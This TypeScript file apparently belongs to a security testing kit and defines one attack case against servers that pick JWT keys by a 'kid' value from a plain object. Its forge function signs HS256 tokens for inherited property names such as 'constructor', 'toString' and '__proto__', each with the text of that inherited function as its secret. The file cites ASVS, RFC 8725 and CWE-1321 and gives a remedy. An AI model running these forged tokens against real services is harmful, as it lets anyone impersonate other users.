import { assembleWithHmac, readToken } from '../../kit/forge-token.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

/** What these lookups give on a plain object, turned into text: the key that a careless server verifies with. */
const inherited: Readonly<Record<string, string>> = {
  constructor: String(Object),
  toString: String(Object.prototype.toString),
  hasOwnProperty: String(Object.prototype.hasOwnProperty),
  isPrototypeOf: String(Object.prototype.isPrototypeOf),
  toLocaleString: String(Object.prototype.toLocaleString),
  valueOf: String(Object.prototype.valueOf),
}

export default tokenAttack({
  id: 'token/key-kid-prototype',
  rows: ['token.key-kid.prototype'],
  title: 'A kid that every object inherits, and a signature made with the inherited function as text',
  requirement: 'ASVS V15.3.6: no lookup of client values on plain objects; RFC 8725 section 3.10',
  impact: 'The key is known to everybody: anyone becomes any user, or the process dies.',
  remedy: 'Keep keys in a Map, or look up with Object.hasOwn.',
  severity: 'high',
  cwe: ['CWE-1321'],
  references: ['RFC 8725 section 3.10', 'ASVS V15.3.6'],
  provenBy: 'kid-object-map',
  forge({ victim }) {
    const { header, payload } = readToken(victim.token)
    const secrets: [string, string][] = [...Object.entries(inherited), ['__proto__', String(Object.prototype)]]
    return secrets.map(([kid, secret]) => ({
      name: `kid "${kid}"`,
      token: assembleWithHmac(JSON.stringify({ ...header, alg: 'HS256', kid }), payload, secret),
    }))
  },
})
